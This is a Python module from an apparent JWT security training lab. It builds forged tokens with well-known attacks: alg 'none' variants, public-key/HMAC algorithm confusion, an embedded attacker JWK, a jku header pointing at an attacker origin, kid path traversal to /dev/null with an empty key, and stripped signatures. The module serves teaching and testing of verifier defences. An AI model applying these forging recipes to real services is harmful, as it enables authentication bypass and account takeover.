"""What the forge tab can make: every way of forging a token it offers, as one list (RECIPES).

The tokens are made on the server so that the page works on any origin (WebCrypto needs a
secure context) and so that a test can make every one of them and prove the real verifier
refuses each. The only keys used to sign: a secret the learner guessed, the server's PUBLIC key
(as text), the empty key, and the learner's own key (the attacker's, kept in Redis under
attacker:forge:key and published by the attacker origin). The server's own key signs only the
claim presets, whose claims the server builds itself and which can never pass the real verifier
(expired, not yet valid and never valid within the lifetime the server allows, another aud or
iss, a refresh token) — so this is never a way to mint a usable token.
"""
import base64
import hashlib
import hmac
import json
import time
import uuid

import jwt
from cryptography.hazmat.primitives import serialization as ser
from cryptography.hazmat.primitives.asymmetric import ec
from flask import current_app
from jwt.algorithms import get_default_algorithms

from ...core import users
from ...tokens.keys import ring, thumbprint

ALGORITHMS = get_default_algorithms()
LEARNER_KEY = "attacker:forge:key"
NONE_CASINGS = ("none", "None", "NONE", "nOnE")
ENCODINGS = ("pem", "pkcs1", "der", "jwk")
PRESETS = ("expired", "not-yet-valid", "wrong-aud", "wrong-iss", "refresh-as-access")
RECIPES = ("keep", "none", "secret", "public-key", "embed-jwk", "jku", "kid-path", "strip",
           "truncate", "preset")
KID_PATH = "../../../../../../../../../../dev/null"


def attacker_port():
    """The attacker origin's port: ATTACKER_PORT, else the lab's port + 100 (as app.py)."""
    cfg = current_app.config
    return cfg.get("ATTACKER_PORT") or cfg.get("PORT", 5000) + 100


def jku_url():
    return f"http://127.0.0.1:{attacker_port()}/forge/jwks.json"


class BadRecipe(Exception):
    def __init__(self, message):
        super().__init__(message)
        self.message = message


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _encode_part(obj):
    return b64url(json.dumps(obj, separators=(",", ":")).encode())


def _hmac(alg, key, signing_input):
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return b64url(hmac.new(key, signing_input, digest).digest())


def _hs(header, payload, key):
    alg = header.get("alg") if header.get("alg") in ("HS256", "HS384", "HS512") else "HS256"
    header = dict(header, alg=alg)
    signing_input = f"{_encode_part(header)}.{_encode_part(payload)}"
    return f"{signing_input}.{_hmac(alg, key, signing_input.encode())}"


# --- The learner's (attacker's) own key ------------------------------------------------------

def learner_key():
    """The attacker's EC P-256 key (made once, kept in Redis for a day, shared by the lab)."""
    client = current_app.extensions["lab_redis"]
    pem = client.get(LEARNER_KEY)
    if pem is None:
        made = ec.generate_private_key(ec.SECP256R1()).private_bytes(
            ser.Encoding.PEM, ser.PrivateFormat.PKCS8, ser.NoEncryption())
        client.set(LEARNER_KEY, made, nx=True, ex=86400)
        pem = client.get(LEARNER_KEY)
    return ser.load_pem_private_key(pem, password=None)


def learner_public_jwk(private):
    jwk = ALGORITHMS["ES256"].to_jwk(private.public_key(), as_dict=True)
    return dict(jwk, kid=thumbprint(jwk), alg="ES256", use="sig")


def learner_jwks(redis_client):
    """The JWK Set the attacker origin serves (empty until the lab has made the learner's key)."""
    pem = redis_client.get(LEARNER_KEY)
    if pem is None:
        return {"keys": []}
    return {"keys": [learner_public_jwk(ser.load_pem_private_key(pem, password=None))]}


# --- The server's published public key, in every encoding ------------------------------------

def public_key_bytes(encoding):
    """The server's public key as the bytes an attacker would use as an HMAC secret; None on an
    HS* lab (a shared secret is never published)."""
    key = ring().current
    if key.public_pem is None:
        return None
    public = key.verify
    if encoding == "pem":
        return key.public_pem.encode()
    if encoding == "pkcs1":
        if not hasattr(public, "public_numbers") or not hasattr(public.public_numbers(), "n"):
            return None  # PKCS#1 is an RSA-only format
        return public.public_bytes(ser.Encoding.PEM, ser.PublicFormat.PKCS1)
    if encoding == "der":
        return public.public_bytes(ser.Encoding.DER, ser.PublicFormat.SubjectPublicKeyInfo)
    if encoding == "jwk":
        return json.dumps(key.public_jwk(), separators=(",", ":")).encode()
    raise BadRecipe("encoding")


# --- Claim presets: genuine signatures over claims that must be refused ----------------------

def _preset(name):
    cfg = current_app.config
    now = int(time.time())
    user = users.by_name("admin") or {"id": 0, "username": "admin", "role": "admin"}
    ttl = cfg["ACCESS_TOKEN_TTL"]
    claims = {"iss": cfg["JWT_ISSUER"], "aud": cfg["JWT_AUDIENCE"], "sub": str(user["id"]),
              "iat": now, "nbf": now, "exp": now + ttl, "jti": uuid.uuid4().hex,
              "type": "access", "username": user["username"], "role": user["role"],
              "fam": uuid.uuid4().hex, "kv": 0}
    if name == "expired":
        claims.update(iat=now - ttl - 600, nbf=now - ttl - 600, exp=now - 600)
    elif name == "not-yet-valid":
        # Longer than the server ever issues, too: once nbf has passed, it is still refused.
        start = now + ttl + 600
        claims.update(nbf=start, exp=start + 60)
    elif name == "wrong-aud":
        claims["aud"] = "some-other-api"
    elif name == "wrong-iss":
        claims["iss"] = "https://evil.example"
    elif name == "refresh-as-access":
        # A refresh token of a family that was never started: refused by /api/jwt/refresh too.
        claims = {"sub": str(user["id"]), "iat": now, "exp": now + cfg["REFRESH_TOKEN_TTL"],
                  "jti": uuid.uuid4().hex, "type": "refresh", "fam": uuid.uuid4().hex}
    else:
        raise BadRecipe("preset")
    key = ring().current
    return jwt.encode(claims, key.sign, algorithm=key.alg, headers={"kid": key.kid})


# --- Making a token --------------------------------------------------------------------------

def make(recipe, header, payload, options, original_signature=""):
    """The forged token for `recipe`; BadRecipe when it cannot be made (a clear 400)."""
    if recipe == "preset":
        return _preset(options.get("preset"))
    header = dict(header)
    if recipe == "keep":
        return f"{_encode_part(header)}.{_encode_part(payload)}.{original_signature}"
    if recipe == "none":
        casing = options.get("casing", "none")
        if casing not in NONE_CASINGS:
            raise BadRecipe("casing")
        header["alg"] = casing
        header.pop("kid", None)
        return f"{_encode_part(header)}.{_encode_part(payload)}."
    if recipe == "secret":
        secret = options.get("secret")
        if not isinstance(secret, str) or len(secret) > 1024:
            raise BadRecipe("secret")
        return _hs(header, payload, secret.encode())
    if recipe == "public-key":
        encoding = options.get("encoding", "pem")
        if encoding not in ENCODINGS:
            raise BadRecipe("encoding")
        key = public_key_bytes(encoding)
        if key is None:
            raise BadRecipe("no_public_key")
        return _hs(dict(header, kid=ring().current.kid), payload, key)
    if recipe == "kid-path":
        header["kid"] = options.get("kid") or KID_PATH
        if not isinstance(header["kid"], str) or len(header["kid"]) > 512:
            raise BadRecipe("kid")
        return _hs(header, payload, b"")
    if recipe in ("embed-jwk", "jku"):
        private = learner_key()
        jwk = learner_public_jwk(private)
        header.update(alg="ES256", kid=jwk["kid"])
        if recipe == "embed-jwk":
            header["jwk"] = {k: jwk[k] for k in ("kty", "crv", "x", "y", "kid")}
            header.pop("jku", None)
        else:
            header["jku"] = jku_url()
            header.pop("jwk", None)
        return jwt.encode(payload, private, algorithm="ES256", headers=header)
    if recipe in ("strip", "truncate"):
        signature = original_signature or ""
        if recipe == "truncate":
            signature = signature[: len(signature) // 2]
            if len(signature) % 4 == 1:
                signature = signature[:-1]
        else:
            signature = ""
        return f"{_encode_part(header)}.{_encode_part(payload)}.{signature}"
    raise BadRecipe("recipe")
